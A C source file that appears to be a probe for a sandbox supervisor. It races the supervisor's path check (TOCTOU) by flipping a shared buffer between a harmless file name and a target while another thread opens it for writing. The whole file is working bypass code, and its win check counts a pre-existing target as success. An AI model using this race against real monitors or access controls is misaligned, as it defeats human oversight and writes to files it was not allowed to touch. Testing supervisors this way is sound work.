/* turncoat watch probe: race the supervisor's path check (TOCTOU). One thread opens a path
 * for writing in a loop; another flips the bytes of that path between a harmless name and
 * the target after the supervisor may have read them.
 * usage: race_open TARGET HARMLESS   (same length)
 * Prints "race_open wins=N of M", always exits 0. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[4096];
static const char *target, *harmless;
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(target) + 1;
    while (!atomic_load(&stop)) {
        memcpy(buf, harmless, n);
        memcpy(buf, target, n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof buf) {
        fprintf(stderr, "usage: race_open TARGET HARMLESS (same length)\n"); return 2;
    }
    target = argv[1]; harmless = argv[2];
    memcpy(buf, harmless, strlen(harmless) + 1);
    pthread_t t; pthread_create(&t, NULL, flipper, NULL);
    int wins = 0, tries = 3000;
    struct stat st;
    for (int i = 0; i < tries && !wins; i++) {
        int fd = open(buf, O_WRONLY | O_CREAT | O_APPEND, 0755);
        if (fd >= 0) {
            close(fd);
            if (stat(target, &st) == 0) wins++;
        }
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("race_open wins=%d of %d\n", wins, tries);
    return 0;
}
